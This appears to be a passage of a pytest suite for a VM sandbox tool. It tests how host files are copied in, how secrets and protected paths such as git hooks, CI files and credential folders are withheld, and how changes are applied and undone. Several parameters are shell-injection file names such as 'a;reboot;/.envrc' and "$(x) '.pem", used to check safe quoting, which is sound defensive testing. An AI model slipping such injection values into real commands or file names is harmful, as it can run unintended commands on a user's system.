"""Host files of a run: what is copied in, left out, protected, applied and undone, and the advice about it."""

from __future__ import annotations

import contextlib
import fcntl
import hashlib
import json
import os
import pty
import shlex
import shutil
import signal
import sys
import tty
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import pytest

from tests.unit.apply_trees import full_disk
from tests.unit.test_refused_lines import result
from x07_sandbox.channel.messages import OUT
from x07_sandbox.channel.trees import Entry, Kind, Reader
from x07_sandbox.cli.console import print_bytes
from x07_sandbox.cli.main import main
from x07_sandbox.cli.messages import change_lines, denial_lines, say_changes
from x07_sandbox.cli.outputs import changes_json, write_diff
from x07_sandbox.errors import BackendError, HostError, RefusedError, SandboxError, UsageError
from x07_sandbox.files import journal
from x07_sandbox.files.apply import ConflictError
from x07_sandbox.files.changes import Change, ChangeSet, Node, RootChanges, encode
from x07_sandbox.files.copy import NUMBER_MAX
from x07_sandbox.files.journal import Head, Place
from x07_sandbox.host.paths import closing_fd, private_dir
from x07_sandbox.host.waiting import Cancel, Notice
from x07_sandbox.policy.changes import Overrides
from x07_sandbox.policy.decode import default_policy, render_policy
from x07_sandbox.policy.denials import HowToAllow
from x07_sandbox.policy.model import EffectivePolicy
from x07_sandbox.sessions.host_files import HostFiles
from x07_sandbox.sessions.patches import patch_chunks
from x07_sandbox.sessions.prepare import Prepared
from x07_sandbox.sessions.request import RunCaller, RunRequest, load_program
from x07_sandbox.sessions.result import ChangedName, Changes, Draft
from x07_sandbox.sessions.run import attempt, copy_in, failure
from x07_sandbox.sessions.saved_changes import apply_saved, find_saved, recover_all, undo_saved
from x07_sandbox.sessions.selection import Grants, select_changes
from x07_sandbox.sessions.transfers import RunFolder

if TYPE_CHECKING:
    from collections.abc import Iterator

    from x07_sandbox.policy.denials import Denial

RUN = "1700000000000-1-1"


class Run:
    """A run without its VM, when its files are copied in. root: a writable folder."""

    def __init__(self, root: Path, stack: contextlib.ExitStack) -> None:
        self.root = root
        root.mkdir()
        self.draft = Draft(RUN)
        self.folder = RunFolder(RUN, stack)
        self.stack = stack
        self.cancel = Cancel()
        stack.callback(self.cancel.close)

    def files(
        self,
        fs: dict[str, Any] | None = None,
        named: str | None = None,
        **words: Any,  # noqa: ANN401 - any of a request's
    ) -> HostFiles:
        """Its host files under the built-in policy with other file rules. named: the path of the policy in use."""
        policy = words.pop("policy", None) or default_policy()
        rules = {"write_roots": (str(self.root),), "deny_hidden": False, **(fs or {})}
        policy = msgspec.structs.replace(policy, fs=msgspec.structs.replace(policy.fs, **rules))
        caller = RunCaller(cancel=self.cancel, progress=words.pop("progress", lambda _text: None))
        request = RunRequest(source=b"pass", toolchain="python", policy=policy, **words)
        self.choice = request.changes
        request, program = load_program(request, caller, self.stack)
        unused: Any = None
        prepared = Prepared(
            request=msgspec.structs.replace(request, policy=named or policy),
            caller=caller,
            program=program,
            policy=EffectivePolicy(policy, b"", ""),
            image=None,
            backend=unused,
            availability=unused,
            plan=unused,
        )
        found = copy_in(prepared, self.draft, self.folder, self.stack)
        assert isinstance(found, HostFiles)
        return found

    def denial(self, field: str) -> Denial:
        """The only denial of that field."""
        (found,) = [denial for denial in self.draft.result.denials if denial.field == field]
        return found

    def back(self, files: HostFiles, *entries: Entry) -> tuple[Changes, list[Denial], str]:
        """The result of a guest's reported changes."""
        assert files.incoming is not None
        for entry in (Entry(Kind.ROOT, b"0"), *entries, Entry(Kind.END, b"")):
            if not files.incoming.take(entry.encoded()):
                break
        return files.settle(self.choice, "")


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Run]:
    """A run with a state folder of its own."""
    monkeypatch.setenv("X07_VM_STATE_DIR", str(tmp_path / "vm" / "jobs"))
    monkeypatch.chdir(tmp_path)
    private_dir(tmp_path / "vm")
    with contextlib.ExitStack() as stack:
        yield Run(tmp_path / "root", stack)


def flag_of(denial: Denial) -> list[str]:
    """The words of the flag that a denial names."""
    assert denial.how_to_allow is not None
    assert denial.how_to_allow.flag is not None
    return shlex.split(denial.how_to_allow.flag)


NAMES = ["key.pem", "a;b.pem", "$(x) '.pem", "-x.pem", "[a].pem", "*.pem", "KEY.PEM"]


@pytest.mark.parametrize("name", NAMES)
def test_the_reveal_flag_reveals_one_name(run: Run, name: str) -> None:
    """The suggested --reveal flag is quoted for a shell and reveals exactly that name."""
    (run.root / name).write_text("a key")
    (run.root / "\uff5e.pem").write_text("another")  # the last of all
    assert set(run.files(changes="discard").copied[0].nodes) == {""}
    denial = run.denial("secrets")
    msgspec.json.encode(denial)
    flags = flag_of(denial)
    assert flags[::2] == ["--reveal", "--reveal"]  # of the other one too
    assert not flags[1].startswith("-")
    assert len(flags) == 4
    run.draft = Draft(RUN)
    assert set(run.files(changes="discard", reveal=(flags[1],)).copied[0].nodes) == {"", name}


def test_every_named_secret_has_its_flag(run: Run) -> None:
    """Every named secret gets a --reveal flag, once for each name."""
    for number in range(7):
        (run.root / f"d{number}").mkdir()
        (run.root / f"d{number}" / f"{number // 2}.pem").write_text("a key")
    run.files(changes="discard")
    flags = flag_of(run.denial("secrets"))
    assert flags == ["--reveal", "0.pem", "--reveal", "1.pem", "--reveal", "2.pem"]  # of the five that are named


def test_a_hidden_file_names_its_pattern(run: Run) -> None:
    """A file hidden by --hide is reported with that flag, not as a secret; --hide and --reveal ignore case."""
    for name in ("data.CSV", "a.pem", "b.pem"):
        (run.root / name).write_text("x")
    found = run.files(changes="discard", hide=("*.csv",), reveal=("A.PEM",)).copied[0]
    assert set(found.nodes) == {"", "a.pem"}
    denial = run.denial("hide")
    assert denial.subject.endswith("data.CSV")
    assert denial.reason == "hidden by --hide '*.csv'"


def test_entries_that_nothing_allows_say_so(run: Run) -> None:
    """Entries that nothing can allow say so."""
    os.mkfifo(run.root / "pipe")
    (run.root / "out").symlink_to("/etc")
    (run.root / "in").symlink_to("pipe")
    with (run.root / "large").open("wb") as file:
        file.truncate(NUMBER_MAX + 1)
    run.files({"allow_symlinks": False})
    ways = {denial.subject.split(":")[0]: denial.how_to_allow for denial in run.draft.result.denials}
    assert (ways["pipe"], ways["out"], ways["large"]) == (None, None, None)
    assert ways["in"] is not None
    assert (ways["in"].json_path, ways["in"].value) == ("$.fs.allow_symlinks", True)


@pytest.mark.parametrize(
    ("rules", "name", "words", "field", "value"),
    [
        ({"max_read_bytes": 10}, "large", {}, "fs.max_read_bytes", 20),
        ({"enabled": False}, "", {"out": Path("out")}, "fs.enabled", True),
    ],
)
def test_refusals_before_a_run_are_denials(
    run: Run, rules: dict[str, Any], name: str, words: dict[str, Any], field: str, value: object
) -> None:
    """A root that may not go in, and --out without files, are denials with advice."""
    if name:
        (run.root / name).write_text("x" * 20)
    with pytest.raises(SandboxError, match="cannot") as caught:
        run.files({"write_roots": (), "read_roots": (str(run.root / name),), **rules}, **words)
    (denial,) = failure(caught.value).denials
    assert (denial.field, denial.action) == (field, "plan")
    assert denial.how_to_allow == HowToAllow(json_path=f"$.{field}", value=value)


def test_roots_by_flag_without_files_are_a_denial(run: Run) -> None:
    """--allow-read-root with fs.enabled false is a denial that names the field."""
    policy = default_policy()
    policy = msgspec.structs.replace(policy, fs=msgspec.structs.replace(policy.fs, enabled=False))
    given = Overrides(allow_read_root=("/srv",))
    ran, error = attempt(
        RunRequest(source=b"pass", toolchain="python", policy=policy, overrides=given), RunCaller(cancel=run.cancel)
    )
    assert isinstance(error, UsageError)
    (denial,) = ran.denials
    assert denial.how_to_allow == HowToAllow(json_path="$.fs.enabled", value=True)


@pytest.mark.parametrize(("most", "parts", "value"), [(2, 3, 3), (256, 257, None), (300, 257, None)])
def test_a_possible_depth_is_suggested(run: Run, most: int, parts: int, value: int | None) -> None:
    """An entry that is too deep suggests fs.max_depth, unless no policy allows that depth."""
    place = run.root
    for _ in range(parts):
        place /= "a"
    place.mkdir(parents=True)
    run.files({"max_depth": most})
    how = run.denial("fs.max_depth").how_to_allow
    assert (how and how.value) == value


def test_too_many_entries_name_the_field(run: Run) -> None:
    """Too many entries are refused on the way in, discarded on the way out, and name the field."""
    for number in range(4):
        (run.root / str(number)).write_text("x")
    with pytest.raises(RefusedError, match="more than 3 files and folders"):
        run.files({"max_entries": 3})
    going = run.denial("fs.max_entries")
    assert len(packed(run.files({"max_entries": 4}, changes="discard"))[0]) == 4
    changes, coming, _ = run.back(
        run.files({"max_entries": 6}), *(Entry(Kind.FOLDER, b"%d" % number, mode=0o755) for number in range(20, 40))
    )
    assert changes.state == "discarded"
    for denial, action, value in ((going, "copy", 6), (coming[0], "change", 12)):
        assert (denial.field, denial.action) == ("fs.max_entries", action)
        assert denial.how_to_allow is not None
        assert (denial.how_to_allow.json_path, denial.how_to_allow.value) == ("$.fs.max_entries", value)


@pytest.mark.parametrize("name", [os.fsdecode(b"\xff\x1b/.envrc"), ".g\u200cit", ".bash\x01"])
def test_an_unprintable_name_has_no_flag(run: Run, name: str) -> None:
    """An unprintable name gets no flag to paste."""
    files = run.files({"allow_symlinks": True}, changes="all-or-nothing")
    folders = [Entry(Kind.FOLDER, os.fsencode(part), mode=0o755) for part in name.split("/")[:-1]]
    _, denials, _ = run.back(files, *folders, Entry(Kind.LINK, os.fsencode(name), target=b"y"))
    assert [denial.how_to_allow for denial in denials if denial.field == "protected"] == [None]


@pytest.mark.parametrize("name", ["a;reboot;/.envrc", ".bash*", "-x/.git"])
def test_the_protected_flag_allows_one_name(run: Run, name: str) -> None:
    """The suggested --allow-protected flag is quoted for a shell and allows exactly that name."""
    files = run.files({"allow_symlinks": True}, changes="all-or-nothing")
    parts = name.split("/")
    folders = [Entry(Kind.FOLDER, os.fsencode(part), mode=0o755) for part in parts[:-1]]
    link = [Entry(Kind.LINK, b".bashrc", target=b"x"), Entry(Kind.LINK, os.fsencode(name), target=b"y")]
    changes, denials, _ = run.back(files, *folders, *link)
    assert (changes.state, changes.reason) == ("kept", "2 of them are not allowed")
    msgspec.json.encode(denials)
    (denial,) = [denial for denial in denials if denial.field == "protected" and denial.subject != ".bashrc"]
    word, pattern = flag_of(denial)
    assert word == "--allow-protected"
    kept = find_saved(RUN).changes
    with pytest.raises(RefusedError) as caught:
        select_changes(kept, [], Grants((pattern,)))
    assert caught.value.why.count("protected") == 1
    assert ".bashrc (" in caught.value.why


@pytest.mark.parametrize(
    ("given", "changed"),
    [
        ("link/p.json", "link"),
        ("link/p.json", "real/p.json"),
        ("twice/p.json", "link"),
        ("real/../twice/./p.json", "twice"),
        ("out/root/link/p.json", "link"),
        ("file.json", "file.json"),
    ],
)
def test_the_policy_in_use_is_protected(run: Run, given: str, changed: str) -> None:
    """The policy in use, and every link on the way to it, is protected."""
    (run.root / "real").mkdir()
    (run.root / "mine").mkdir()
    (run.root / "link").symlink_to("real")
    (run.root / "twice").symlink_to(run.root / "link")
    (run.root / "out").symlink_to(run.root.parent)
    (run.root / "file.json").symlink_to("real/p.json")
    (run.root / "real/p.json").write_bytes(render_policy(default_policy()))
    files = run.files({"allow_symlinks": True}, named=str(run.root / given))
    assert files.incoming is not None
    changes, denials, _ = run.back(files, Entry(Kind.LINK, changed.encode(), target=b"mine"))
    assert changes.state == "kept"
    assert "protected" in {denial.field for denial in denials}


@pytest.mark.parametrize(
    ("root", "name"),
    [
        ("", "vm/runs/9-1-1"),
        ("", "vm/jobs/9-1-1-run"),
        ("", "vm/runner_instance"),
        ("", "cache/artifacts"),
        ("vm", "RUNS"),
        ("vm/runs", "9-1-1"),
        ("cache/x", "y"),
    ],
)
def test_own_records_are_protected(run: Run, monkeypatch: pytest.MonkeyPatch, root: str, name: str) -> None:
    """Our own records, saved changes and cache cannot be changed by a program."""
    base = run.root.parent
    monkeypatch.setenv("X07_VM_CACHE_DIR", str(base / "cache"))
    (base / "cache/x").mkdir(parents=True)
    files = run.files({"write_roots": (str(base / root),)}, allow_protected=("*",))
    changes, denials, _ = run.back(files, Entry(Kind.FOLDER, name.encode(), mode=0o700))
    assert (changes.state, [denial.field for denial in denials]) == ("kept", ["reserved"])
    with pytest.raises(RefusedError, match="x07 keeps"):
        select_changes(find_saved(RUN).changes, [], Grants(("*",)))


def test_a_root_that_is_the_policy_is_protected(run: Run) -> None:
    """A write root that is the policy in use is protected."""
    place = run.root / "p.json"
    place.write_bytes(render_policy(default_policy()))
    files = run.files({"write_roots": (str(place),)}, named=str(place))
    changes, denials, _ = run.back(files, Entry(Kind.FILE, b"", mode=0o644))
    assert (changes.state, [denial.field for denial in denials]) == ("kept", ["protected"])


def messages(changes: Changes, denials: list[Denial]) -> list[str]:
    """The printed lines."""
    return change_lines(msgspec.structs.replace(result(), run=RUN, changes=changes, denials=tuple(denials)))


def test_large_files_are_named_also_after_a_success(run: Run) -> None:
    """Files that are too large to be copied are named, largest first, with the limit and a flag that allows all."""
    for number in range(7):
        (run.root / f"f{number}").touch()
        os.truncate(run.root / f"f{number}", (number + 1) << 20)
    words = {"changes": "discard", "named": "built-in:default"}
    run.files({"max_read_bytes": 1 << 20}, **words)
    (line,) = denial_lines(msgspec.structs.replace(result(), denials=run.draft.result.denials))
    assert line == (
        "denied: copying f6, f5, f4, f3, f2 and 1 more into the VM (larger than 1M, fs.max_read_bytes). "
        "To allow it, use --max-file-size 7M"
    )
    place = str(run.root / "f6")
    with pytest.raises(UsageError, match=r"larger than 1M, fs.max_read_bytes\. Omit .* or use --max-file-size 7M"):
        run.files({"max_read_bytes": 1 << 20, "read_roots": (place,), "write_roots": ()}, **words)


def test_a_root_in_a_repository_is_protected(run: Run) -> None:
    """A write root inside a git repository is protected; one inside a work tree is not."""
    bare = run.root / "bare"
    for name in ("objects", "refs", "hooks", "tree", "tree/deep"):
        (bare / name).mkdir(parents=True)
    hook = Entry(Kind.FOLDER, b"post-update", mode=0o755)
    changes, _, _ = run.back(run.files({"write_roots": (str(bare / "hooks"),)}, changes="keep"), hook)
    assert (changes.state, changes.reason) == ("kept", "")
    shutil.rmtree(run.folder.path / "changes")
    (bare / "HEAD").touch()
    _, (denial,), _ = run.back(run.files({"write_roots": (str(bare / "hooks"),)}), hook)
    assert (denial.field, denial.subject) == ("protected", "post-update")
    assert denial.reason == f"git treats {bare} as a repository and would run what is in it"
    assert flag_of(denial) == ["--allow-protected", "post-update"]
    assert select_changes(find_saved(RUN).changes, [], Grants(("post-update",))).roots[0].changes
    shutil.rmtree(run.folder.path / "changes")
    (bare / "tree/.git").touch()
    assert run.back(run.files({"write_roots": (str(bare / "tree/deep"),)}), hook)[0].state == "applied"


@pytest.mark.parametrize("late", ["HEAD", "objects", "refs", "hooks"])
def test_two_runs_make_no_repository_together(run: Run, late: str) -> None:
    """A change in a repository, or that would complete one, with files that came after the copy, is a conflict."""
    (run.root / "x").mkdir()
    files = run.files()
    for name in {"HEAD", "objects", "refs"} - {late}:
        (run.root / "x" / name).mkdir()
    part = Entry(Kind.FOLDER, f"x/{late}".encode(), mode=0o755)
    changes, _, _ = run.back(files, part)
    assert changes.state == "conflict"
    assert f"git treats {run.root}/x as a repository and would run what is in it" in changes.reason
    assert not (run.root / "x" / late).exists()


def test_an_allowed_change_in_a_repository_is_applied_again(run: Run) -> None:
    """What --allow-protected allows in a repository can be applied, undone and applied again."""
    for name in ("objects", "refs"):
        (run.root / "x" / name).mkdir(parents=True)
    part = Entry(Kind.FOLDER, b"x/HEAD", mode=0o755)
    assert run.back(run.files(allow_protected=("x/HEAD",)), part)[0].state == "applied"
    for arguments in (["undo", RUN], ["apply", RUN]):
        assert main(arguments) == 0
        assert (run.root / "x/HEAD").exists() == (arguments[0] == "apply")


@pytest.mark.parametrize("waits", [False, True])
def test_a_cancelled_run_applies_nothing(run: Run, *, waits: bool) -> None:
    """A cancelled run saves its changes, also while it waits for the lock of a folder, which it says."""
    said: list[str] = []

    def on_progress(text: str) -> None:
        if isinstance(text, Notice):
            said.append(text)
            run.cancel(signal.SIGTERM)

    files = run.files(progress=on_progress)
    with closing_fd(os.open(run.root, os.O_RDONLY)) as held:
        if waits:
            fcntl.flock(held, fcntl.LOCK_EX)
        else:
            run.cancel(signal.SIGTERM)
        changes, _, warning = run.back(files, Entry(Kind.FOLDER, b"new", mode=0o755))
    assert (changes.state, changes.reason, warning) == ("kept", "the run was cancelled", "")
    assert files.cancelled_by == signal.SIGTERM
    assert said == [f"waiting: another command is changing {run.root}"][: int(waits)]
    assert not (run.root / "new").exists()
    assert main(["apply", RUN]) == 0
    assert (run.root / "new").exists()


def test_a_protected_root_is_named_by_path(run: Run) -> None:
    """A root that is itself protected is named by its path, and flags accept it."""
    ci, jenkins = run.root / ".github", run.root / "Jenkinsfile"
    ci.mkdir()
    jenkins.touch(0o644)
    files = run.files({"write_roots": (str(ci), str(jenkins))}, changes="all-or-nothing")
    task, other = (Entry(Kind.FILE, name, mode=0o600) for name in (b"x.yml", b""))
    reported, denials, _ = run.back(files, task, Entry(Kind.ROOT, b"1"), other)
    assert [denial.subject.partition(":")[0] for denial in denials] == [f"{ci}/x.yml", str(jenkins)]
    assert flag_of(denials[1]) == ["--allow-protected", "Jenkinsfile"]
    assert any(
        f"{jenkins} (protected: other tools execute jenkinsfile* or read settings from it)" in line
        for line in messages(reported, denials)
    )
    changes = find_saved(RUN).changes
    assert f"# not allowed: {jenkins} (".encode() in b"".join(patch_chunks(find_saved(RUN)))
    with pytest.raises(RefusedError, match=r"x\.yml"):
        select_changes(changes, [], Grants(("Jenkinsfile",)))
    for skip in ("Jenkinsfile", str(jenkins), f"{jenkins}/"):
        granted = select_changes(changes, [skip], Grants((".github",)))
        assert [[one.name for one in root.changes] for root in granted.roots] == [
            ["x.yml"],
            [],
        ]
    for skip in (str(ci), f"{ci}/x.yml", "x.yml"):
        granted = select_changes(changes, [skip], Grants(("J*",)))
        assert [[one.name for one in root.changes] for root in granted.roots] == [[], [""]]
    for skip in ("nothing", f"{run.root}/nothing", ".github/y"):
        with pytest.raises(UsageError):
            select_changes(changes, [skip], Grants(("*",)))
    assert all(root.changes == () for root in select_changes(changes, [str(run.root)]).roots)


def test_a_name_in_two_roots_is_skipped_by_path(run: Run) -> None:
    """A name that exists in two roots is printed and skipped by its whole path."""
    one, two = (run.root / name for name in ("one", "two"))
    for place in (one, two):
        place.mkdir()
        (place / "x").touch()
    files = run.files({"write_roots": (str(one), str(two))}, changes="keep")
    gone = Entry(Kind.DELETED, b"x")
    changes, denials, _ = run.back(files, gone, Entry(Kind.ROOT, b"1"), gone)
    assert messages(changes, denials)[:2] == [f"would be deleted: {place}/x" for place in (one, two)]
    left = select_changes(find_saved(RUN).changes, [f"{one}/x"])
    assert [root.root for root in left.roots if root.changes] == [str(two)]


def test_a_skipped_entry_keeps_its_folders(run: Run) -> None:
    """A skipped entry keeps its folders, and the rest is applied."""
    inner = run.root / "proj/in"
    (inner / ".vscode").mkdir(parents=True)
    for name in (".vscode/ci.yml", "AGENTS.md", "a.txt"):
        (inner / name).write_text(name)
    (run.root / "proj/b").mkdir()
    there = ["in", "in/.vscode", "in/.vscode/ci.yml", "in/AGENTS.md", "in/a.txt", "b"]
    gone = [Entry(Kind.DELETED, f"proj/{name}".encode()) for name in reversed(there)]
    come = [
        Entry(Kind.FILE, b"new/" + name, mode=0o644) for name in (b"in/.vscode/ci.yml", b"in/AGENTS.md", b"in/a.txt")
    ]
    folders = [Entry(Kind.FOLDER, b"new" + name, mode=0o755) for name in (b"", b"/in", b"/in/.vscode", b"/b")]
    changes, denials, _ = run.back(
        run.files(changes="all-or-nothing"), *gone, Entry(Kind.DELETED, b"proj"), *folders, *come
    )
    assert changes.state == "kept"
    kept_set = find_saved(RUN)
    skip = [denial.subject.partition(":")[0] for denial in denials]
    stays = list[str]()
    left = select_changes(kept_set.changes, skip, notify=stays.append)
    apply_saved(kept_set, left, lambda _path: None)
    proj = {str(path.relative_to(run.root)) for path in run.root.glob("proj/**/*")}
    assert proj == {"proj/in", "proj/in/.vscode", "proj/in/.vscode/ci.yml", "proj/in/AGENTS.md"}
    moved = sorted(str(path.relative_to(run.root)) for path in run.root.glob("new/**/*"))
    assert moved == ["new/b", "new/in", "new/in/a.txt"]
    assert stays == [f"kept because it contains skipped files: {name}" for name in ("proj", "proj/in")]


def test_a_left_out_entry_can_be_skipped(run: Run) -> None:
    """An entry that was not copied in can be skipped, so that the rest is applied."""
    for name in ("d/in/a.pem", "d/in/b.txt", "d/c.txt", "e/z.pem", "e/y"):
        (run.root / name).parent.mkdir(parents=True, exist_ok=True)
        (run.root / name).write_text(name)
    gone = [b"d/in/b.txt", b"d/c.txt", b"d/in", b"d", b"e/y", b"e"]
    run.back(run.files(changes="all-or-nothing"), *(Entry(Kind.DELETED, name) for name in gone))
    kept_set = find_saved(RUN)
    with pytest.raises(RefusedError, match=r"e \(contains e/z\.pem"):
        select_changes(kept_set.changes, ["d/in/a.pem"])
    left = select_changes(kept_set.changes, ["d/in/a.pem", f"{run.root}/e/z.pem"])
    apply_saved(kept_set, left, lambda _path: None)
    assert sorted(str(path.relative_to(run.root)) for path in run.root.glob("**/*.*")) == ["d/in/a.pem", "e/z.pem"]
    with pytest.raises(UsageError):
        select_changes(kept_set.changes, ["e", "d", "f/x"])


LEFT: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    ("key.pem", {}, {}),
    (".hid", {"deny_hidden": True}, {"deny_hidden": False}),
    ("large", {"max_read_bytes": 3}, {"max_read_bytes": 5}),
    ("link", {"allow_symlinks": False}, {"allow_symlinks": True}),
    ("deep", {"max_depth": 2}, {"max_depth": 3}),
]


@pytest.mark.parametrize(("left", "fs", "more"), LEFT)
@pytest.mark.parametrize("taken", [True, False])
def test_a_left_out_entry_is_never_replaced(
    run: Run, left: str, fs: dict[str, Any], more: dict[str, Any], *, taken: bool
) -> None:
    """An entry that was left out is never replaced or removed, and is named with advice."""
    place = run.root / "f/d" / left
    place.parent.mkdir(parents=True)
    place.symlink_to("other") if left == "link" else place.write_text("large")
    gone = [Entry(Kind.DELETED, name) for name in (b"f/d", b"f")]
    files = run.files(fs, changes="all-or-nothing")
    changes, denials, _ = run.back(files, *gone if taken else [Entry(Kind.FOLDER, b"f/d/" + left.encode(), mode=0o755)])
    alone = "1 more cannot be copied back" if left == "deep" else "1 of them is not allowed"  # nothing too deep is
    assert (changes.state, changes.reason) == ("kept", "2 of them are not allowed" if taken else alone)
    reported = "\n".join(messages(changes, denials))
    if taken:
        assert f"f (contains f/d/{left}, which was not copied into the VM (" in reported
    how = denials[0].how_to_allow
    assert how is not None
    words: dict[str, Any] = {} if more else {"reveal": (flag_of(denials[0])[1],)}
    assert ("use --reveal key.pem" if words else f"set {how.json_path}".replace("$.", "")) in reported
    assert how.value == next(iter(more.values()), None)
    assert f"f/d/{left}" in run.files({**fs, **more}, changes="discard", **words).copied[0].nodes


@pytest.mark.parametrize("more", [(), (Entry(Kind.FOLDER, b"new", mode=0o755),)])
def test_a_root_keeps_its_own_mode(run: Run, more: tuple[Entry, ...]) -> None:
    """The mode of a root folder on the host stays, whatever the program makes of it."""
    mode = run.root.stat().st_mode
    changes, denials, warning = run.back(run.files(), Entry(Kind.FOLDER, b"", mode=0o700), *more)
    assert (changes.state, denials) == ("applied" if more else "none", [])
    assert warning == ""
    assert run.root.stat().st_mode == mode
    assert (run.root / "new").exists() == bool(more)


def packed(files: HostFiles) -> list[set[str]]:
    """The names in each tree, each once and after its folder."""
    found = []
    for file in files.files:
        reader = Reader()
        entries = [event for event in reader.feed(os.pread(file.fd, file.size, 0)) if isinstance(event, Entry)]
        assert reader.ended
        names = [entry.name.decode() for entry in entries if entry.kind is not Kind.END]
        assert all(not name or name.rpartition("/")[0] in {"", *names[:at]} for at, name in enumerate(names))
        assert len(set(names)) == len(names)
        found.append(set(names) - {""})
    return found


LOST: list[tuple[str, dict[str, Any], set[str]]] = [
    (".aws/new/", {}, {".aws", ".aws/new"}),
    ("sub/a/b/", {"max_depth": 2}, {"sub", "sub/a", "sub/a/b"}),
    ("sub/one.pem", {}, {"sub", "sub/one.pem"}),
    ("sub/missing", {}, {"sub", "sub/missing"}),
    (".ssh/missing", {}, {".ssh", ".ssh/missing"}),
]


@pytest.mark.parametrize("outer", ["read_roots", "write_roots"])
@pytest.mark.parametrize(("inner", "fs", "ways"), LOST)
def test_a_root_below_a_left_out_entry_is_copied(
    run: Run, inner: str, fs: dict[str, Any], ways: set[str], outer: str
) -> None:
    """A root below an entry that another root leaves out is copied in by itself."""
    place = run.root / inner
    place.parent.mkdir(parents=True)
    (place.parent / "kept.pem").write_text("a key")
    if inner.endswith("/"):
        place.mkdir()
        (place / "in").write_text("in")
    elif "missing" not in inner:
        place.write_text("in")
    roots = {"write_roots": (), **fs}
    roots[outer] = (str(run.root),)
    roots["write_roots"] = (*roots["write_roots"], str(place))
    files = run.files(roots)
    if inner == "sub/missing" and outer == "write_roots":
        assert packed(files) == [ways]  # a missing root is made where that is allowed
        return
    own = {"in"} if inner.endswith("/") else {"one.pem"} if "one" in inner else set()
    assert packed(files) == [ways, own]
    assert [(mount.tree, mount.at, mount.sub) for mount in files.mounts(0)] == [
        (0, str(run.root), ""),
        (1, str(place), "one.pem" if "one" in inner else ""),
    ]


def test_changes_of_a_nested_root_are_its_own(run: Run) -> None:
    """Changes of a nested root are limited to it."""
    inner = run.root / ".aws/new"
    inner.mkdir(parents=True)
    (inner.parent / "credentials").write_text("secret")
    both = {"write_roots": (str(run.root), str(inner))}

    def reported(*entries: Entry) -> tuple[Changes, list[Denial], str]:
        files = run.files(both, changes="all-or-nothing")
        return run.back(files, *entries)

    made = Entry(Kind.FOLDER, b"made", mode=0o755)
    for name in (b".aws/other", b".aws/new/x"):
        changes, (denial,), _ = reported(Entry(Kind.FOLDER, name, mode=0o755), Entry(Kind.ROOT, b"1"), made)
        assert (changes.state, denial.field) == ("kept", "secrets")
        assert flag_of(denial) == ["--reveal", ".aws"]
        shutil.rmtree(run.folder.path / "changes")
    (inner / "k.pem").touch()
    both = {"write_roots": (str(run.root), f"{inner}/k.pem")}
    gone = [Entry(Kind.DELETED, name) for name in (b".aws/new/k.pem", b".aws/new", b".aws")]
    assert reported(*gone)[0].state == "kept"  # with all around it, and the machine has told the truth
    shutil.rmtree(run.folder.path / "changes")
    (inner / "k.pem").unlink()
    both = {"write_roots": (str(run.root), str(inner))}
    changes, denials, _ = reported(made, Entry(Kind.ROOT, b"1"), made)
    assert (changes.state, denials) == ("applied", [])
    assert sorted(str(path.relative_to(run.root)) for path in run.root.rglob("made")) == [".aws/new/made", "made"]


def test_out_may_not_be_a_file(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """--out naming a file is refused before a VM starts."""
    monkeypatch.chdir(run.root)
    (run.root / "file").touch()
    with pytest.raises(UsageError, match="file is a file"):
        run.files(out=Path("file"))
    assert run.files(out=Path("new")).areas[0].at == OUT


def save_set(run: Run, *changes: Change) -> None:
    """Save changes of its root as a run does."""
    roots = (RootChanges(root=str(run.root), guest="/g", missing=False, changes=changes),) if changes else ()
    save_roots(run, *roots)


def save_roots(run: Run, *roots: RootChanges) -> None:
    """Save a change set as a run does."""
    private_dir(run.folder.path / "changes")
    (run.folder.path / "changes" / "changes.json").write_bytes(encode(ChangeSet(run=RUN, roots=roots)))
    (run.folder.path / "changes" / "data").write_bytes(b"")


def made(name: str) -> Change:
    """A new folder."""
    return Change(name=name, before=None, after=Node(kind="folder", mode=0o755))


def apply_all() -> None:
    """Apply the saved changes."""
    apply_saved(find_saved(RUN), find_saved(RUN).changes, lambda _path: None)


def test_a_damaged_set_is_an_error(run: Run) -> None:
    """A damaged change set is an error when it is applied."""
    save_set(run, made(".x07-apply-1"))
    with pytest.raises(HostError, match="damaged"):
        apply_all()


def test_an_undo_on_a_full_disk_can_be_repeated(run: Run) -> None:
    """An undo that fails for lack of space reports it and succeeds once there is space."""
    (run.root / "a").write_bytes(b"x" * 1000)
    node = Node(kind="file", mode=0o644, size=1000, sha256=hashlib.sha256(b"x" * 1000).hexdigest())
    save_set(run, Change(name="a", before=node, after=None))
    apply_all()
    with full_disk(900), pytest.raises(HostError, match=f"^cannot undo the changes of run {RUN}: File too large"):
        undo_saved(find_saved(RUN), lambda _path: None)
    undo_saved(find_saved(RUN), lambda _path: None)
    assert (run.root / "a").stat().st_size == 1000


def test_a_second_concurrent_undo_does_nothing(run: Run) -> None:
    """The second of two concurrent undos finds nothing to do."""
    save_set(run, made("a"))
    apply_all()
    folder = run.folder.path / "changes"
    held = os.open(folder, os.O_RDONLY)
    fcntl.flock(held, fcntl.LOCK_EX)

    def other_ends(path: str) -> None:
        assert path == str(folder)
        shutil.rmtree(folder / "undo")
        os.close(held)

    with pytest.raises(UsageError, match="they are not applied"):
        undo_saved(find_saved(RUN), other_ends)


def test_a_failed_recovery_names_its_journal(run: Run) -> None:
    """A failed recovery names its journal and what to do."""
    save_set(run)
    folder = run.folder.path / "changes"
    place = Place(path=str(run.root / "gone"), ident=(1, 1), staging=".x07-apply-1")
    journal.write(folder, "journal", Head(run=RUN, places=(place,)))
    private_dir(run.folder.path.parent / ".applying").joinpath(RUN).touch()
    reported: list[str] = []
    recover_all(reported.append)
    (text,) = reported
    assert "remove the journal" in text
    assert text.endswith(f"The journal is below {folder}.")
    assert (folder / "journal").exists()


def test_a_later_change_is_a_conflict_of_undo(run: Run) -> None:
    """A file changed since apply is a conflict of undo, with the command that shows the changes."""
    save_set(run, made("a"))
    apply_all()
    (run.root / "a" / "mine").touch()
    with pytest.raises(ConflictError, match=r"cannot undo .* '/.*/a/mine' changed on the host after .*x07 diff"):
        undo_saved(find_saved(RUN), lambda _path: None)
    (run.root / "a" / "mine").unlink()
    undo_saved(find_saved(RUN), lambda _path: None)
    assert list(run.root.iterdir()) == []


def test_apply_distinguishes_skipped_and_applied(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
